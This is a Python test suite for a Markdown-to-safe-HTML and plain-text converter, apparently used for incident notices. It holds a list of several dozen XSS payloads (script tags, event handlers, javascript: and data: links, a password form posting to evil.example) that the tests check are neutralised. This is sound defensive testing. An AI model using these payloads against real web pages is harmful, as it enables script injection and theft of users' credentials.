"""Markdown as safe HTML and as plain text; the corpus tests our module, not the libraries that it uses."""

import re
from html.parser import HTMLParser
from textwrap import dedent
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from incidents import markup

TAGS = set("p br strong em ul ol li a code pre blockquote h3 h4 table thead tbody tr th td".split())


class Inspector(HTMLParser):
    """Collects everything in HTML that must never reach a reader."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.faults.append(f"tag {tag}")
        self.faults += [f"{tag} {name}={value}" for name, value in attrs if not self.is_fine(tag, name, value or "")]
        if tag == "a" and "href" in dict(attrs) and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.faults.append("link without rel")

    def is_fine(self, tag: str, name: str, value: str) -> bool:
        if (tag, name) == ("a", "href"):
            return urlsplit(value).scheme in {"http", "https", "mailto"}
        return (tag, name) == ("a", "rel") or ((tag, name) == ("ol", "start") and value.isdigit())

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl}")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data}")


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<form action=https://evil.example><input name=password></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><td background=javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](file:///etc/passwd)",
    "[x](https://evil.example \"onmouseover=alert(1)\")",
    "[x](https://a.example/\"onmouseover=alert(1)//)",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/x.png)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    "![x](x \"onerror=alert(1)\")",
    "`<script>alert(1)</script>`",
    "```<script>\nalert(1)\n```",
    "``` {onclick=alert(1)}\nx\n```",
    "# x {: onclick=alert(1)}",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[x](https://[evil)",
    "http://evil.example\"onmouseover=alert(1)",
    "\x02klzzwxh:0000\x03",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_reaches_no_reader(attack: str) -> None:
    html = markup.html(f"Before {attack} after\n\n{attack}\n\n- {attack}\n\n> {attack}")
    assert Inspector(html).faults == []
    assert "<script" not in html.lower()


PIECES = st.sampled_from([
    "<", ">", "&", '"', "'", "`", "```", "*", "**", "_", "[", "](", ")", "![", "\n", "\n\n", "    ", "- ", "1. ",
    "> ", "# ", "|", "---", "\\", ":", "//", "javascript:", "https://a.example", "mailto:", "data:", "onclick=",
    "<script>", "</p>", "<a href=", "<!--", "&#x6a;", "\x00", "\x02", "\x03", "\ud800", "\u202e", "æ", "x",
])  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.one_of(st.lists(PIECES, max_size=40).map("".join), st.text(max_size=200)))
def test_any_text_becomes_allowed_html_and_plain_text(source: str) -> None:
    html, text = markup.html(source), markup.plain(source)
    assert Inspector(html).faults == []
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]", html)
    (html + text).encode()


def test_typed_html_is_shown_as_typed() -> None:
    assert markup.html("a <b>c</b>") == "<p>a &lt;b&gt;c&lt;/b&gt;</p>"
    assert markup.plain("a <b>c</b> & d") == "a <b>c</b> & d"


def test_picture_becomes_a_link() -> None:
    assert markup.plain("![Kurve](https://a.example/x.png)") == "Kurve (https://a.example/x.png)"


def test_headings_are_below_those_of_the_page() -> None:
    assert markup.html("# One\n\n## Two\n\n###### Six") == "<h3>One</h3>\n<h4>Two</h4>\n<h4>Six</h4>"


def test_line_break_stays_a_line_break() -> None:
    assert markup.html("a\nb") == "<p>a<br>\nb</p>"


def test_list_needs_no_blank_line_before_it() -> None:
    assert markup.plain("Ikke berørt:\n- mail\n- web") == "Ikke berørt:\n\n- mail\n- web"
    assert markup.html("```\ntekst\n- ikke en liste\n```").startswith("<pre><code>tekst\n- ikke en liste")


def test_list_keeps_its_numbers() -> None:
    assert markup.html("3. c\n4. d").startswith('<ol start="3">')
    assert markup.plain("3. c\n4. d") == "3. c\n4. d"


def test_horizontal_rule_becomes_asterisks() -> None:
    assert markup.plain("a\n\n---\n\nb") == "a\n\n* * *\n\nb"


def test_address_becomes_a_link_and_a_file_name_does_not() -> None:
    html = markup.html("Se https://a.example/x?a=1&b=2. Kør backup.sh, læs README.md på www.b.example")
    assert re.findall('href="([^"]*)"', html) == ["https://a.example/x?a=1&amp;b=2", "https://www.b.example"]


@pytest.mark.parametrize("address", ["https://a.example[", "https://a.example]/x", "https://a\u2100b.example/"])
def test_text_that_only_looks_like_an_address_stays_text(address: str) -> None:
    assert "href" not in markup.html(f"Se {address} her")
    assert address in markup.plain(f"Se {address} her")


def test_address_in_code_stays_code() -> None:
    assert markup.html("`https://a.example`") == "<p><code>https://a.example</code></p>"


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("[Status](https://a.example/x)", "Status (https://a.example/x)"),
        ("[https://a.example](https://a.example)", "https://a.example"),
        ("www.a.example", "www.a.example"),
        ("[skriv](mailto:hjaelp@a.example)", "skriv (hjaelp@a.example)"),
        ("[hjaelp@a.example](mailto:hjaelp@a.example)", "hjaelp@a.example"),
        ("[x](javascript:alert(1))", "x"),
    ],
)
def test_links_in_plain_text_have_their_address_once(source: str, text: str) -> None:
    assert markup.plain(source) == text


def test_plain_text_reads_well_in_a_mail() -> None:
    source = """
        # Hvad skete der?
        Mail til **Microsoft 365** blev *forsinket*.
        Se [status](https://a.example).

        - først
        - så
            1. det ene
            2. det andet

                mere om det andet
        - til sidst

        | Tid | Hændelse |
        |---|---|
        | 14.12 | Sikringen går |
        | 9.05 | Strøm |

        > **Impact:** Some users
        > worldwide.
        >
        > - one
        >
        > > inner

        ```
        451 4.7.500
            Server  busy


        slut
        ```
        Slut.
    """
    expected = """
        Hvad skete der?

        Mail til Microsoft 365 blev forsinket.
        Se status (https://a.example).

        - først
        - så
          1. det ene
          2. det andet

             mere om det andet
        - til sidst

        Tid    Hændelse
        14.12  Sikringen går
        9.05   Strøm

        > Impact: Some users
        > worldwide.
        >
        > - one
        >
        > > inner

        451 4.7.500
            Server  busy


        slut

        Slut.
    """
    assert markup.plain(dedent(source)) == dedent(expected).strip()


def test_paragraphs_of_a_list_stay_with_their_item() -> None:
    assert markup.plain("- a\n\n- b\n\n    mere b\n\n- c") == "- a\n- b\n\n  mere b\n- c"


def test_empty_text_stays_empty() -> None:
    assert markup.html("") == ""
    assert markup.plain(" \n") == ""


def test_clean_removes_only_what_xml_forbids() -> None:
    assert markup.clean("æøå 🚧\tx\r\ny\rz") == "æøå 🚧\tx\ny\nz"
    assert markup.clean("a\x00\x0b\ufffe\ud800b") == "ab"


def test_long_text_of_one_character_does_not_delay_publishing() -> None:
    """Excessive nesting results in text, not in a RecursionError."""
    for source in (">" * 2000, "> " * 2000, "\n".join("    " * depth + "- x" for depth in range(120))):
        assert Inspector(markup.html(source)).faults == []
        assert markup.plain(source)


def test_text_after_an_image_is_kept() -> None:
    source = "Se ![kort](https://e.example/k.png) som viser **hvor** fejlen er."
    assert markup.plain(source) == "Se kort (https://e.example/k.png) som viser hvor fejlen er."


def test_noncharacters_are_removed() -> None:
    """The placeholders in documents consist of them, so no text may contain any."""
    assert markup.clean("a\ufdd0published\ufdd0\ufdd1address\ufdd1\ufdef\uffff\U0001fffe\U0010ffffb") == (
        "apublishedaddressb"
    )
    assert markup.clean("\ufdcf\ufdf0\U0001fffd") == "\ufdcf\ufdf0\U0001fffd"


def test_one_line_cannot_reverse_the_text_around_it() -> None:
    """Unicode Technical Report 36 §3: an unclosed override reverses the text after it."""
    assert markup.one_line("Mail\u202e er\u2066 \n forsinket\u2069\u202c") == "Mail er forsinket"
    assert markup.one_line("Mail\u200f") == "Mail\u200f"


@pytest.mark.parametrize("brackets", ["[" * 5000, "[a](" * 4000, "[x][" * 4000])
def test_search_for_the_end_of_brackets_is_limited(brackets: str) -> None:
    """Each bracket may begin a link, and searching for its end takes the whole text: the last one is not tried."""
    html = markup.html(f"{brackets}[end](mailto:a@e.example)")
    assert html == f"<p>{brackets}[end](mailto:a@e.example)</p>"


def test_as_many_links_as_a_text_can_have_are_links() -> None:
    assert markup.html("[info] [a](https://e.example)\n" * 170).count("<a ") == 170
